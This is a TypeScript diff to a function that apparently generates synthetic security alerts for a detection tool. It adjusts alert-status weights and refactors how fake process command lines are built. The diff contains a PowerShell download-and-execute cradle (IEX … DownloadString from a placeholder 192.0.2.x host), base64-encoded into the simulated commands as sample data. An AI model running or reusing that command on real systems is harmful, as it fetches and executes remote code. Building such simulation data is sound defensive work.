@@ -56,7 +56,7 @@ export function generateAlerts(
 
   function statusFor(createdMs: number): Alert['status'] {
     if (createdMs > anchor - DAY) return rng.weighted(['new', 'in_progress'] as const, [80, 20]);
-    return rng.weighted(['new', 'in_progress', 'closed', 'reopened'] as const, [50, 20, 24, 6]);
+    return rng.weighted(['new', 'in_progress', 'closed', 'reopened'] as const, [66, 13, 17, 4]);
   }
 
   /** A new process for the detected command, just before the alert. */
@@ -64,8 +64,13 @@ export function generateAlerts(
     const user = accountOf(m);
     const path = fill(t.path ?? imagePaths.get(t.image) ?? `/usr/bin/${t.image}`, { user });
     const ip = `192.0.2.${rng.int(130, 180)}`;
-    const script = `IEX (New-Object Net.WebClient).DownloadString('http://${ip}/p.ps1')`;
-    const cmd = fill(t.cmd, { path, user, ip, n: String(rng.int(600, 1200)), b64: Buffer.from(script, 'utf16le').toString('base64') });
+    const n = String(rng.int(600, 1200));
+    const vars: Record<string, string> = { path, user, ip, n };
+    if (t.cmd.includes('{b64}')) {
+      const script = `IEX (New-Object Net.WebClient).DownloadString('http://${ip}/p.ps1')`;
+      vars.b64 = Buffer.from(script, 'utf16le').toString('base64');
+    }
+    const cmd = fill(t.cmd, vars);
     const start = Math.max(m.firstSeenMs, createdMs - between(rng, 5 * SECOND, 2 * MINUTE));
     const stop = Math.min(m.lastSeenMs, start + between(rng, SECOND, 10 * MINUTE));
     return f.add(m, t.image, path, cmd, start, stop);
